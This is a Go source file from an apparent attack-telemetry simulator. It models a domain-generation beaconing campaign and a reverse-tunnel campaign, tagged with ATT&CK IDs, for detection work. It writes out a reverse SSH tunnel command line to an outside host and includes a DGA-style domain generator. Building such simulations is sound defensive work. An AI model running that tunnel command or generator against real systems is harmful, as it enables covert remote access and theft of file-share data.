package simulate

import "fmt"

var _ = campaign(Campaign{
	Name:  "generated-domains",
	Title: "A program on a workstation asks for one made-up domain after the other until one exists, and takes its orders there",
	Run: func(k *attack) {
		w, a := k.w, k.actor
		p := w.of(&k.rng, office)
		k.tells("sensor1/suricata", "sensor1/zeek")
		at := k.source()
		add(&k.truth.Sources, p.address)
		k.step("T1568.002", "search", "asks for domains of the day until one exists")
		name := k.madeUp()
		var found string
		for range k.between(30, 250) {
			w.sensor.resolve(a, p.address, name())
			k.lull(300*msec, 5*second)
		}
		found = name()
		w.sensor.resolve(a, p.address, found, at)
		k.step("T1071.001", "orders", "calls %s for orders", found)
		every := k.between(2*minute, 12*minute)
		for range k.between(30, 120) {
			w.sensor.resolve(a, p.address, found, at)
			f := w.sensor.open(a, "TCP", p.address, clientPort(a), at, 443)
			w.sensor.tls(a, &f, found)
			f.toServer += k.between(400, 900)
			f.toClient += k.between(150, 400)
			k.pause(100*msec, 900*msec)
			w.sensor.close(a, &f)
			k.succeeds()
			k.lull(every*4/5, every*6/5)
		}
		k.fact("outbound", at, "a program on %s is under control from %s", p.machine, at)
	},
})

// madeUp is a generator of domains, of letters or of words as programs of this kind have them, below a suffix that nobody can have (RFC 2606).
func (k *attack) madeUp() func() string {
	if k.rng.chance(300) {
		first := []string{"amber", "brave", "copper", "distant", "early", "frozen", "gentle", "hollow", "iron", "little", "northern", "quiet", "rapid", "silver", "western", "yellow"}
		second := []string{"anchor", "bridge", "candle", "forest", "garden", "harbor", "island", "ladder", "market", "mirror", "needle", "orchard", "pepper", "river", "signal", "window"}
		return func() string { return pick(&k.rng, first) + pick(&k.rng, second) + ".example" }
	}
	least := k.between(6, 13)
	return func() string {
		b := make([]byte, least+k.between(0, 6))
		for i := range b {
			b[i] = 'a' + byte(k.rng.below(26))
		}
		return string(b) + ".example"
	}
}

var _ = campaign(Campaign{
	Name:  "reverse-tunnel",
	Title: "A workstation holds a tunnel open to a server outside for hours, and someone comes back through it to the file server",
	Run: func(k *attack) {
		w, h, a := k.w, k.w.ws, k.actor
		p := h.windows.owner
		k.host(h)
		k.user(p.name)
		k.tells("ws01/sysmon", "sensor1/zeek", "sensor1/suricata")
		add(&k.truth.Sources, p.address)
		for h.windows.explorer == nil || w.now > w.end-2*hour && w.now < w.end-90*minute {
			k.wait(7 * minute)
		}
		at := k.source()
		shell := h.windows.explorer
		port := pick(&k.rng, []int{443, 443, 22, 8443})
		k.step("T1572", "tunnel", "starts a tunnel to %s", at)
		cmd := shell.start(a, `C:\Windows\System32\cmd.exe`, `"C:\Windows\System32\cmd.exe" /c C:\Users\Public\t.cmd`)
		k.pause(100*msec, 900*msec)
		ssh := cmd.start(a, `C:\Windows\System32\OpenSSH\ssh.exe`, fmt.Sprintf(`ssh.exe -N -o StrictHostKeyChecking=no -p %d -R 1080 tunnel@%s`, port, at))
		f := ssh.connects(a, at, "", port)
		f.app = "ssh"
		k.succeeds()
		k.fact("outbound", at, "ws01 held a tunnel to %s open", at)
		until := min(w.now+k.between(3*hour, 11*hour), w.end-90*minute)
		k.pause(20*minute, hour)
		k.step("T1021.002", "shares", "and reads the file server's shares through it")
		for range k.between(2, 5) {
			s := w.netLogon(a, p.target(), p.address, false)
			s.openShare(a, p.address, "Projects", `\??\D:\Projects`)
			smb := clientPort(a)
			for range k.between(10, 60) {
				s.readFile(a, p.address, smb, "Projects", `\??\D:\Projects`, document(&k.rng))
				k.lull(300*msec, 6*second)
			}
			s.logOff(a)
			f.toServer += k.between(4_000_000, 40_000_000)
			f.toClient += k.between(200_000, 2_000_000)
			if w.now < until {
				k.pause(5*minute, 40*minute)
			}
		}
		k.host(w.dc)
		k.fact("data-read", "Projects", "files of the share Projects were read")
		k.step("T1572", "end", "until it is closed")
		k.until(until)
		w.sensor.close(a, &f)
		ssh.end(a)
		cmd.end(a)
		k.wait(2 * minute)
	},
})
